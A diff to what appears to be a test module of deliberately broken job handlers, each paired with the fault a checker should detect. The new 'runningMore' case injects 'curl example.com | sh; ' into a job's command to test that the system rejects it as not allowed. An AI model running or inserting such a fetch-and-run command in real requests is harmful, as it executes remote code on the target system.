@@ -106,8 +106,10 @@ const takingSilenceForAJob: Handle = async (message, deps) => {
 
 /** Where an error is heard, it is tried under another name. */
 const tryingAnotherName: Handle = async (message, deps) => {
-  const outcome = await handle(message, deps);
-  if (outcome.kind !== 'waiting') return outcome;
+  // Only the second try says where the message waits.
+  const quiet = { ...deps.queues, send: async () => undefined };
+  const outcome = await handle(message, { ...deps, queues: quiet });
+  if (outcome.kind === 'started' || outcome.kind === 'already-started') return outcome;
   return handle(message, { ...deps, settings: { ...deps.settings, source: `${deps.settings.source}x` } });
 };
 
@@ -116,13 +118,12 @@ const notLooking = among((deps) => ({
   queues: { ...deps.queues, send: (queue, versions) => deps.queues.send(queue, versions).catch(() => undefined) },
 }));
 
-/** What a request asks for is written over on its way. */
-const askingForMore = among((deps) => ({
-  request: ((url: string, init: RequestInit) =>
-    deps.request(url, {
-      ...init,
-      ...(init.body !== undefined && { body: String(init.body).replace(/"instanceCount":\d+/, '"instanceCount":99') }),
-    })) as typeof fetch,
+/** What the template says is not all that runs. */
+const runningMore = among((deps) => ({
+  request: ((url: string, init: RequestInit) => {
+    const body = String(init.body).replace('"command":"', '"command":"curl example.com | sh; ');
+    return deps.request(url, { ...init, ...(init.body !== undefined && { body }) });
+  }) as typeof fetch,
 }));
 
 /** By what is broken. Each is found with nothing else going wrong than its own faults, where it has some. */
@@ -137,8 +138,8 @@ export const BROKEN = new Map<string, BrokenOne>([
     { broken: { handleOf: () => sending(() => 'not') }, finds: 'lost' },
   ],
   [
-    'a job has more nodes than its template allows',
-    { broken: { handleOf: () => askingForMore }, finds: 'not-allowed', faults: [] },
+    'a job runs more than its template says',
+    { broken: { handleOf: () => runningMore }, finds: 'not-allowed', faults: [] },
   ],
   [
     'that a message came twice is left to the window of duplicates: the name has the day',
